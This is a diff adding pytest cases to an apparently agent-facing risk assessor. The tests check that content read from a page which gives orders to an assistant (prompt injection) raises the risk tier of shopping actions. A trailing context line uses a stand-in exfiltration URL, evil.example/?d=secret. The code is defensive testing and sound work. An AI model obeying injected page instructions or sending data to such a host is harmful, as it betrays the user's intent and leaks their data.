@@ -298,6 +298,26 @@ def test_a_taint_never_lowers_a_tier(case: str) -> None:
     assert assess(action, what, arguments, tainted).tier >= tier
 
 
+@pytest.mark.parametrize(
+    ("case", "tier"),
+    [("tab", Tier.WRITES), ("to the basket", Tier.WRITES), ("order", Tier.CRITICAL)],
+)
+def test_a_taint_on_the_tasks_own_site_is_told_and_asks_about_no_more(
+    case: str, tier: Tier
+) -> None:
+    words = "what was read at shop.example gives orders to an assistant"
+    action, what, arguments, _ = CASES[case]
+    risk = assess(action, what, arguments, Situation(sites=HOME.sites, tainted=words))
+    assert risk.tier == tier
+    assert words in risk.reasons
+
+
+def test_a_taint_makes_writing_critical_where_no_site_is_the_tasks_own() -> None:
+    action, what, arguments, _ = CASES["to the basket"]
+    assert assess(action, what, arguments, Situation()).tier == Tier.WRITES
+    assert assess(action, what, arguments, Situation(tainted="it was")).tier == Tier.CRITICAL
+
+
 def test_a_tainted_run_does_not_carry_data_to_another_site() -> None:
     tainted = Situation(sites=HOME.sites, tainted="the page holds hidden instructions")
     there = {"url": "https://evil.example/?d=secret"}
